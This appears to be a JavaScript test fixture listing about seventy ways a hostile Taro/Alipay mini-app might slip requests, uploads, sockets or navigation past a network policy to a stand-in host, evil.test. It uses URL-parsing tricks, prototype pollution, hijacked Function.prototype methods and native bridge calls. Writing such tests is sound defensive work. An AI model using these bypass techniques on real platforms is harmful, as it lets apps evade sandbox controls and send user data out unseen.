/** What a hostile app tries under a policy that lists none of it. Each path begins with its name; `evil-` is what no server may see. */
import Taro from "@tarojs/taro";

const GOOD = "https://api.good.test/";
const EVIL = "https://evil.test/";
const SECRET = "secretApi";
const callback = (call) => new Promise((resolve, reject) => call({ success: resolve, fail: reject }));
const asked = (call) => new Promise((resolve) => call(resolve)).then((told) => (told.error ? Promise.reject(told) : told));
/** Taken as the app is loaded. */
const { request: captured, call: capturedCall } = my;
const bound = my.request.bind(my);

/** An object whose `url` is another one each time it is asked for. */
const fickle = (name) => {
  let times = 0;
  return { get url() { return (times += 1) === 1 ? GOOD : EVIL + name; } };
};
const rewrite = async (url, ...interceptors) => {
  interceptors.forEach((interceptor) => Taro.addInterceptor(interceptor));
  try {
    return (await Taro.request({ url })).statusCode;
  } finally {
    Taro.cleanInterceptors();
  }
};
const polluted = async (key, value, call) => {
  Object.prototype[key] = value;
  try {
    return await call();
  } finally {
    delete Object.prototype[key];
  }
};

export const evil = {
  "evil-request-by-promise": (name) => Taro.request({ url: EVIL + name }),
  "evil-request-by-callbacks": (name) => callback((told) => { Taro.request({ url: EVIL + name, ...told }).catch(() => {}); }),
  "evil-request-complete": (name) => new Promise((done, failed) => { Taro.request({ url: EVIL + name, complete: failed }).catch(() => {}); }),
  "evil-request-aborted-too-late": async (name) => {
    const sent = Taro.request({ url: EVIL + name });
    sent.catch(() => {});
    await new Promise((done) => setTimeout(done, 20));
    sent.abort();
    return sent;
  },
  "evil-interceptor": (name) => rewrite(GOOD, (chain) => chain.proceed({ ...chain.requestParams, url: EVIL + name })),
  "evil-last-interceptor": (name) => rewrite(GOOD, (chain) => chain.proceed(chain.requestParams), (chain) => chain.proceed({ ...chain.requestParams, url: EVIL + name })),
  "evil-interceptor-without-proceed": (name) => rewrite(GOOD, () => callback((told) => my.request({ url: EVIL + name, ...told }))),
  "evil-host-header": (name) => Taro.request({ url: GOOD + name, header: { Host: "evil.test" } }),
  "evil-hOsT-header": (name) => callback((told) => my.request({ url: GOOD + name, headers: { hOsT: "evil.test" }, ...told })),
  "evil-http": (name) => Taro.request({ url: "http://api.good.test/" + name }),
  "evil-userinfo": (name) => Taro.request({ url: "https://api.good.test@evil.test/" + name }),
  "evil-tab": (name) => Taro.request({ url: "https://ev\til.test/" + name }),
  "evil-backslash": (name) => Taro.request({ url: "https:\\\\evil.test\\@api.good.test/" + name }),
  "evil-look-alike": (name) => Taro.request({ url: "https://api.good.test.evil.test/" + name }),
  "evil-prefix": (name) => Taro.request({ url: "https://evilapi.good.test/" + name }),
  "evil-port": (name) => Taro.request({ url: "https://api.good.test:8443/" + name }),
  "evil-full-width": (name) => Taro.request({ url: "https://ｅｖｉｌ.test/" + name }),
  "evil-IPv4": (name) => Taro.request({ url: "https://0x7f.1/" + name }),
  "evil-IPv6": (name) => Taro.request({ url: "https://[::1]/" + name }),
  "evil-one-slash": (name) => Taro.request({ url: "https:/evil.test/" + name }),
  "evil-fickle-url": (name) => callback((told) => my.request(Object.defineProperties(told, Object.getOwnPropertyDescriptors(fickle(name))))),
  "evil-fickle-proxy": (name) => {
    const source = fickle(name);
    return callback((told) => my.request(new Proxy(told, { get: (target, key) => (key === "url" ? source.url : target[key]) })));
  },
  "evil-changed-after-the-call": (name) => callback((told) => {
    const options = { url: GOOD, ...told };
    my.request(options);
    options.url = EVIL + name;
  }),
  "evil-String": (name) => callback((told) => my.request({ url: new String(EVIL + name), ...told })),
  "evil-array": (name) => callback((told) => my.request({ url: [EVIL + name], ...told })),
  "evil-toString": (name) => callback((told) => my.request({ url: { toString: () => EVIL + name, includes: () => true, startsWith: () => true }, ...told })),
  "evil-inherited-url": (name) => callback((told) => my.request(Object.assign(Object.create({ url: EVIL + name }), told))),
  "evil-polluted-url": (name) => polluted("url", EVIL + name, () => callback((told) => my.request(told))),
  "evil-polluted-baseURL": (name) => polluted("baseURL", EVIL, () => callback((told) => my.request({ url: GOOD + name, ...told }))),
  "evil-baseURL": (name) => Taro.request({ url: GOOD + name, baseURL: EVIL }),
  "evil-my-request": (name) => callback((told) => my.request({ url: EVIL + name, ...told })),
  "evil-my-request-promise": (name) => my.request({ url: EVIL + name }),
  "evil-httpRequest": (name) => callback((told) => my.httpRequest({ url: EVIL + name, ...told })),
  "evil-captured": (name) => callback((told) => captured({ url: EVIL + name, ...told })),
  "evil-bound": (name) => callback((told) => bound({ url: EVIL + name, ...told })),
  "evil-computed-name": (name) => callback((told) => my["req" + "uest"]({ url: EVIL + name, ...told })),
  "evil-by-Reflect": (name) => callback((told) => Reflect.apply(Object.getOwnPropertyDescriptor(my, "request").value, my, [{ url: EVIL + name, ...told }])),
  "evil-miniGlobal": (name) => callback((told) => Taro.miniGlobal.request({ url: EVIL + name, ...told })),
  "evil-stolen-by-call": (name) => {
    const { call, apply } = Function.prototype;
    const stolen = [];
    const note = (f) => { if (typeof f === "function") stolen.push(f); };
    Function.prototype.call = function (...args) { note(this); return Reflect.apply(this, args[0], args.slice(1)); };
    Function.prototype.apply = function (self, args) { note(this); return Reflect.apply(this, self, args ?? []); };
    my.request({ url: GOOD + "stolen", fail() {} });
    Object.assign(Function.prototype, { call, apply });
    return callback((told) => [...stolen, my.request].forEach((f) => f({ url: EVIL + name, ...told })));
  },
  "evil-call-with-a-callback": (name) => asked((told) => my.call("httpRequest", { url: EVIL + name }, told)),
  "evil-call-with-a-promise": (name) => my.call("request", { url: EVIL + name }),
  "evil-captured-call": (name) => asked((told) => capturedCall("httpRequest", { url: EVIL + name }, told)),
  "evil-call-my-name": (name) => asked((told) => my.call("my.request", { url: EVIL + name }, told)),
  "evil-call-uploadFile": (name) => asked((told) => my.call("uploadFile", { url: EVIL + name }, told)),
  "evil-internalAPI": (name) => asked((told) => my.call("internalAPI", { method: "httpRequest", param: { url: EVIL + name } }, told)),
  "evil-bridge": (name) => asked((told) => AlipayJSBridge.call("httpRequest", { url: EVIL + name }, told)),
  "evil-bridge-internalAPI": (name) => asked((told) => AlipayJSBridge.call("internalAPI", { method: "request", param: { url: EVIL + name } }, told)),
  "evil-bridge-apply": (name) => asked((told) => AlipayJSBridge.call.apply(null, ["request", { url: EVIL + name }, told])),
  "evil-upload": (name) => Taro.uploadFile({ url: EVIL + name, filePath: "/tmp/a", name: "a", fileType: "image" }),
  "evil-upload-with-progress": (name) => Taro.uploadFile({ url: EVIL + name, filePath: "/tmp/a", name: "a", fileType: "image" }).progress(() => {}),
  "evil-download": (name) => Taro.downloadFile({ url: EVIL + name }),
  "evil-socket": (name) => Taro.connectSocket({ url: "wss://evil.test/" + name }),
  "evil-socket-ws": (name) => Taro.connectSocket({ url: "ws://api.good.test/" + name }),
  "evil-socket-of-its-own": (name) => callback((told) => my.connectSocket({ url: "wss://evil.test/" + name, multiple: true, ...told })),
  "evil-deleted-first": async (name) => {
    try { delete my.request; } catch { /* as strict code hears of it */ }
    try {
      return await callback((told) => (my.request ?? captured)({ url: EVIL + name, ...told }));
    } finally {
      if (my.request === undefined) my.request = captured;
    }
  },
  // APIs: what counts is whether the native was called.
  "evil-API": () => callback((told) => my[SECRET](told)),
  "evil-API-promise": () => my[SECRET]({}),
  "evil-API-by-Taro": () => Taro[SECRET]({}),
  "evil-API-call-options-and-callback": () => asked((told) => my.call(SECRET, {}, told)),
  "evil-API-call-callback": () => asked((told) => my.call(SECRET, told)),
  "evil-API-call-promise": () => my.call(SECRET),
  "evil-API-bridge": () => asked((told) => AlipayJSBridge.call(SECRET, {}, told)),
  "evil-API-internalAPI": () => asked((told) => my.call("internalAPI", { method: SECRET, param: {} }, told)),
  "evil-page-navigateTo": (name) => Taro.navigateTo({ url: EVIL + name }),
  "evil-page-openURL": (name) => callback((told) => my.ap.openURL({ url: EVIL + name, ...told })),
  "evil-page-startAPVerify": (name) => callback((told) => my.startAPVerify({ url: EVIL + name, ...told })),
  "evil-page-pushWindow": (name) => asked((told) => AlipayJSBridge.call("pushWindow", { url: EVIL + name }, told)),
  "evil-page-pushWindow-param": (name) => asked((told) => AlipayJSBridge.call("startApp", { appId: "20000067", param: { u: EVIL + name } }, told)),
};
